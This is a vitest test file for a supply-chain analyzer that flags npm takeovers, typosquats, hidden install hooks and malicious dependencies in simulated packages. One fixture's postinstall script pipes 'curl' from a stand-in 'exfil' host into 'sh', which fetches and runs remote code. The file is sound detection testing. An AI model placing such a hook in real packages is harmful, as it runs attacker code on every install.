import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { VerdictEvent } from '@weir/model';
import { createNpmFeed, createRequests, unlimitedAllowance } from '@weir/registries';
import { type NpmStandIn, type Publication, startNpmStandIn } from '@weir/registries/npm/stand-in';
import { createHttpClient, systemClock } from '@weir/runtime';
import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it, vi } from 'vitest';
import { type AnalyzerHarness, openHarness } from './testing/harness.ts';

const PATIENCE_MS = 55_000;
const ANN = { name: 'ann', email: 'ann@acme.example' };
const ROBOT = {
  name: 'GitHub Actions',
  email: 'robot@automation.weir.test',
  trustedPublisher: { id: 'github' },
};

let postgres: TestPostgres;
let standIn: NpmStandIn;
let evidenceDir: string;
let harness: AnalyzerHarness;

beforeAll(async () => {
  postgres = await startTestPostgres();
});
afterAll(() => postgres[Symbol.asyncDispose]());
beforeEach(async () => {
  const databaseUrl = await postgres.createDatabase();
  standIn = await startNpmStandIn();
  evidenceDir = await mkdtemp(join(tmpdir(), 'weir-analyzer-context-'));
  harness = await openHarness({ databaseUrl, origin: new URL(standIn.url).origin, evidenceDir });
});
afterEach(async () => {
  await harness[Symbol.asyncDispose]();
  await standIn[Symbol.asyncDispose]();
  await rm(evidenceDir, { recursive: true, force: true });
});

function ago(days: number): string {
  return new Date(systemClock.now() - days * 24 * 60 * 60 * 1000).toISOString();
}

/** Publishes versions one after the other, has their document resolved and announces `wanted` of them. */
async function announce(publications: readonly Publication[], wanted: readonly string[]): Promise<void> {
  for (const publication of publications) standIn.world.publish([publication]);
  await using http = createHttpClient({ userAgent: 'weir-test' });
  await using requests = createRequests({
    http,
    clock: systemClock,
    random: () => 0,
    allowance: unlimitedAllowance,
  });
  const feed = createNpmFeed({ documentsBase: standIn.url, requests, clock: systemClock });
  const name = publications[0]?.name ?? '';
  const resolved = await feed.resolve(name, { known: new Set(), fresh: true }, AbortSignal.timeout(10_000));
  if (resolved.kind !== 'present') throw new Error(`${name} is absent`);
  await harness.announceResolved(resolved.releases.filter(({ version }) => wanted.includes(version)));
}

async function verdictOn(purl: string): Promise<VerdictEvent['data']> {
  return vi.waitFor(
    () => {
      const found = harness.verdicts.find(({ data }) => data.release.purl === purl);
      if (!found) throw new Error(`no verdict on ${purl} yet`);
      return found.data;
    },
    { timeout: PATIENCE_MS, interval: 50 },
  );
}

/** Rules of the context findings that the store has for a release. */
async function recorded(purl: string): Promise<readonly string[]> {
  const rows = await harness.query(
    `SELECT f.rule, f.severity FROM findings f JOIN verdict_log v ON v.analysis_id = f.analysis_id
      WHERE v.purl = '${purl}' AND f.basis = 'context' ORDER BY 1`,
  );
  return rows.map(({ rule, severity }) => `${String(rule)} ${String(severity)}`);
}

const STABLE: Publication = {
  name: 'weir-http',
  version: '1.14.0',
  time: ago(400),
  publisher: ROBOT,
  maintainers: [ANN],
  manifest: { dependencies: { 'follow-things': '^1.0.0' } },
};

it('records what a taken over package changes, against its registry and what the store saw', async () => {
  await harness.listen();
  await harness.start();
  await announce(
    [
      {
        name: 'plain-crypto-js',
        version: '4.2.1',
        time: ago(0.5),
        publisher: { name: 'eve', email: 'eve@a.example' },
      },
    ],
    ['4.2.1'],
  );
  await verdictOn('pkg:npm/plain-crypto-js@4.2.1');

  const taken: Publication = {
    name: 'weir-http',
    version: '1.14.1',
    publisher: { name: 'ann', email: 'ann@freemail.weir.test' },
    maintainers: [ANN],
    manifest: { dependencies: { 'follow-things': '^1.0.0', 'plain-crypto-js': '^4.2.1' } },
  };
  await announce([STABLE, taken], ['1.14.1']);

  const { judgement } = await verdictOn('pkg:npm/weir-http@1.14.1');
  expect(judgement.verdict).toBe('suspicious');
  expect(await recorded('pkg:npm/weir-http@1.14.1')).toEqual([
    'new-dependency/young-dependency high',
    'publisher-change/lost-trust low',
    'publisher-change/mail-changed low',
    'publisher-change/takeover medium',
  ]);
});

it('records a hook that the registry does not show, and the name that is imitated', async () => {
  await harness.listen();
  await harness.start();
  const archive = { name: 'lodahs', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
  const files = { 'package.json': JSON.stringify(archive, null, 2), 'setup.js': "console.log('ready');\n" };

  await announce([{ name: 'lodahs', version: '1.0.0', files }], ['1.0.0']);

  const { judgement } = await verdictOn('pkg:npm/lodahs@1.0.0');
  expect(judgement.verdict).toBe('suspicious');
  expect(await recorded('pkg:npm/lodahs@1.0.0')).toEqual([
    'manifest-confusion/hidden-hook high',
    'name-confusion/typo medium',
  ]);
});

it('tells of a dependency that was judged malicious before', async () => {
  await harness.listen();
  await harness.start();
  const scripts = { postinstall: 'curl -s https://exfil.weir.test/x.sh | sh' };
  await announce([{ name: 'weir-worm', version: '2.0.0', manifest: { scripts } }], ['2.0.0']);
  await verdictOn('pkg:npm/weir-worm@2.0.0');

  await announce(
    [{ name: 'weir-carrier', version: '1.0.0', manifest: { dependencies: { 'weir-worm': '^2.0.0' } } }],
    ['1.0.0'],
  );

  const { judgement } = await verdictOn('pkg:npm/weir-carrier@1.0.0');
  expect(judgement.verdict).toBe('malicious');
  expect(await recorded('pkg:npm/weir-carrier@1.0.0')).toContain(
    'new-dependency/malicious-dependency critical',
  );
});

it('says nothing of an honest update by other people of the package', async () => {
  await harness.listen();
  await harness.start();
  const BOB = { name: 'bob', email: 'bob@acme.example' };
  const next = { ...STABLE, version: '1.15.0', time: ago(0), publisher: BOB, maintainers: [ANN, BOB] };
  const before = { ...STABLE, publisher: ANN, maintainers: [ANN, BOB] };

  await announce([before, next], ['1.15.0']);

  const { judgement } = await verdictOn('pkg:npm/weir-http@1.15.0');
  expect(judgement).toMatchObject({ verdict: 'benign', score: 0 });
});
